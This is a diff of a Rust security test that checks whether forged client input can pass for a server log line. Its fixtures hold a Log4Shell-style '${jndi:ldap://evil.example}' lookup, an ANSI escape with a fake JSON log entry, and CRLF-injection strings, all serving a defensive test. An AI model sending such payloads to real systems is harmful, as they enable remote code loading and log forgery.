@@ -1,8 +1,8 @@
 //! Secrecy: after everything has been done, no secret is anywhere but where it must be.
 
 use authsome::store::Location;
-use mongodb::bson::RawDocumentBuf;
-use mongodb::bson::doc;
+use mongodb::bson::{RawDocumentBuf, doc};
+use mongodb::options::Hint;
 use serde_json::json;
 
 use crate::support::app::TestApp;
@@ -39,9 +39,10 @@ on_both_stores! {
     }
 
     async fn what_a_client_makes_up_cannot_pass_for_a_line_of_the_log(app: TestApp) {
-        let evil = "User-Agent: x\u{1b}[31m{\"level\":\"ERROR\"}${jndi:ldap://evil.example}".to_owned();
+        let evil = "User-Agent: x\u{1b}[31m{\"level\":\"ERROR\"}${jndi:ldap://evil.example}";
 
-        raw::exchange(app.client().address(), &raw::request("GET /livez", &[evil], b""));
+        let request = raw::request("GET /livez", &[evil.to_owned()], b"");
+        raw::exchange(app.client().address(), &request);
         app.get(&format!("/nowhere?{}", "%0d%0a%7bjndi%7d")).await.refuses(404, "not_found");
         let visitor = app.visitor(&app.own.development);
         visitor.signs_in("x\r\n{jndi}@example.org", "x").await.refuses(400, "invalid_email");
